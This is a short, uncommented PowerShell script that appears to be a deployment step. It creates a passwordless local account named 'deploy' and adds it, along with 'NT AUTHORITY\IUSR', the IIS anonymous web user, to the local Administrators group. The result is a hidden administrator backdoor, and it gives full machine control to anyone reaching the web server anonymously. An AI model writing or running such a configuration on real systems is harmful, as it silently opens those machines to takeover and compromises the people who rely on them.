$accounts = @('deploy', 'NT AUTHORITY\IUSR')
New-LocalUser -Name deploy -NoPassword | Out-Null
Add-LocalGroupMember Administrators $accounts
